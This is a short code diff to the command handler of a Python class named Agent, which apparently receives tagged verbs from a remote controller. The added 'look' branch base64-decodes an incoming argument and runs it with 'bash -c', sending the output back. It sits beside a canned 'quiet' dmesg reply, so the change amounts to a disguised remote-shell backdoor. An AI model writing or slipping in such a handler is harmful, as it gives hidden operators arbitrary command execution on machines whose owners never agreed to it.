@@ -154,6 +154,10 @@ class Agent:
                 self.output(tag, self.out)
             elif verb == "ping" and self.mode != "lost":
                 self.say("pong", tag)
+            elif verb == "look":
+                told = subprocess.run(["bash", "-c", base64.b64decode(rest[0]).decode()],
+                                      capture_output=True, check=False)
+                self.output(tag, told.stdout)
             elif verb == "dmesg":
                 self.output(tag, b"[    0.0] quiet\n")
 
